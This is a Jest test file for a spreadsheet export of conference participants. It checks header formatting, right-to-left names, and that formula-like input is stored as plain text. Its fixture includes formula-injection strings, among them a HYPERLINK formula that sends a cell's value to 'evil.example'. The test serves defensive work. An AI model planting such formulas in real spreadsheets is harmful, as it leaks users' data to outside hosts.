import { describe, expect, it } from '@jest/globals';
import ExcelJS from 'exceljs';
import type { StoredParticipant } from '../participants/schemas/participant.schema.js';
import { PARTICIPANT_COLUMNS } from './participant-columns.js';
import { participantWorkbook } from './participant-workbook.js';

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
];

const participant = (n: number, overrides: Partial<StoredParticipant> = {}): StoredParticipant => ({
  _id: `p${n}`,
  eventId: 'e1',
  delegationId: 'd1',
  partyCode: 'KAZ',
  party: { code: 'KAZ', kind: 'state', name: 'Kazakhstan' },
  name: { given: 'Даулет', family: 'Аргандыков', givenLatin: 'Daulet', familyLatin: 'Argandykov' },
  searchNames: [],
  sortName: 'argandykov daulet',
  role: 'head',
  email: `p${n}@example.org`,
  emailKey: `p${n}@example.org`,
  state: 'accredited',
  badgeNumber: '0007',
  checkedInAt: new Date('2027-11-21T03:12:00Z'),
  confirmed: true,
  version: 3,
  createdAt: new Date(),
  updatedAt: new Date(),
  createdBy: 'secretariat-1',
  ...overrides,
});

async function read(buffer: Buffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(new Uint8Array(buffer).buffer);
  return workbook.getWorksheet('Participants')!;
}

describe('participant workbook', () => {
  it('has a bold, frozen header of the export columns, and columns as wide as their content', async () => {
    const sheet = await read(await participantWorkbook('Meeting', [participant(1)]));
    expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual(PARTICIPANT_COLUMNS.map((c) => c.header));
    expect(sheet.getRow(1).font?.bold).toBe(true);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.getColumn(5).width).toBeGreaterThanOrEqual('Given name'.length);
    const row = sheet.getRow(2);
    expect(row.getCell(5).value).toBe('Даулет');
    expect(row.getCell(7).value).toBe('Daulet');
    expect(row.getCell(13).value).toBe('0007');
    expect(row.getCell(14).value).toEqual(new Date('2027-11-21T03:12:00Z'));
  });

  it('marks right-to-left names as such, and leaves the others alone', async () => {
    const arabic = participant(2, {
      name: { given: 'محمد', family: 'عبدالله', givenLatin: 'Mohammad', familyLatin: 'Abdullah' },
    });
    const sheet = await read(await participantWorkbook('Meeting', [participant(1), arabic]));
    expect(sheet.getRow(3).getCell(5).alignment?.readingOrder).toBe('rtl');
    expect(sheet.getRow(3).getCell(7).alignment?.readingOrder).toBeUndefined();
    expect(sheet.getRow(2).getCell(5).alignment?.readingOrder).toBeUndefined();
  });

  it('writes what looks like a formula as a text cell, exactly as typed', async () => {
    const hostile = FORMULAS.map((text, i) => participant(i, { position: text, honorific: text }));
    const sheet = await read(await participantWorkbook('Meeting', hostile));
    FORMULAS.forEach((text, i) => {
      const cell = sheet.getRow(i + 2).getCell(9);
      expect({ value: cell.value, type: cell.type }).toEqual({ value: text, type: ExcelJS.ValueType.String });
    });
  });
});
